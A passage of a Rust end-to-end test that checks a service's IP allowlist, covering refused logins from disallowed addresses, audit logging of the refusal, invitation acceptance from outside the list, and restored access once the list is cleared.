        let (status, _) = from(&t, office, Method::GET, "/v1/servers", credential, None).await;
        assert_eq!(status, 200);
    }
    let login = |ip: &'static str, password: &'static str| {
        let (http, url, email) = (t.http.clone(), t.url("/v1/auth/login"), owner_email.clone());
        async move {
            let r = http
                .post(url)
                .header("x-forwarded-for", ip)
                .json(&json!({"email": email, "password": password}))
                .send()
                .await
                .expect("login");
            let status = r.status().as_u16();
            let cookie = sensei_e2e::session_cookie(&r);
            let body: Value = r.json().await.unwrap_or(Value::Null);
            (status, error_code(&body).to_owned(), cookie)
        }
    };
    let (status, code, cookie) = login(home, PW).await;
    assert_eq!(
        (status, code.as_str(), cookie),
        (403, "ip_not_allowed", None)
    );
    // A wrong password from home still says only that.
    let (status, code, _) = login(home, "wrong password entirely").await;
    assert_eq!((status, code.as_str()), (401, "invalid_credentials"));
    let refused: i64 = t
        .count("SELECT count(*) FROM audit_log WHERE action = 'user.login_failed' AND metadata->>'failed_factor' = 'network'")
        .await;
    assert_eq!(refused, 1, "the refused sign-in is audited");
    let (status, _, cookie) = login(office, PW).await;
    assert_eq!(status, 200);
    assert!(cookie.is_some());

    // An invitation is no way around it: accepted from outside, it is refused and unspent.
    let (status, inv) = from(
        &t,
        office,
        Method::POST,
        "/v1/invitations",
        Ok(&owner),
        Some(
            json!({"email": format!("i{}@example.com", Uuid::new_v4().simple()), "role": "viewer"}),
        ),
    )
    .await;
    assert_eq!(status, 201, "{inv}");
    let accept = json!({"token": inv["token"], "password": PW});
    let (status, err) = from(
        &t,
        home,
        Method::POST,
        "/v1/invitations/accept",
        Err(""),
        Some(accept.clone()),
    )
    .await;
    assert_eq!((status, error_code(&err)), (403, "ip_not_allowed"), "{err}");
    let (status, _) = from(
        &t,
        office,
        Method::POST,
        "/v1/invitations/accept",
        Err(""),
        Some(accept),
    )
    .await;
    assert_eq!(
        status, 201,
        "the invitation was not spent by the refused attempt"
    );

    // Lifting the list opens the account again.
    let (status, account) = from(
        &t,
        office,
        Method::PATCH,
        "/v1/account",
        Ok(&owner),
        Some(json!({"ip_allowlist": []})),
    )
    .await;
    assert_eq!((status, &account["ip_allowlist"]), (200, &json!([])));
    let (status, _) = from(&t, home, Method::GET, "/v1/servers", Err(&key), None).await;
    assert_eq!(status, 200);
}
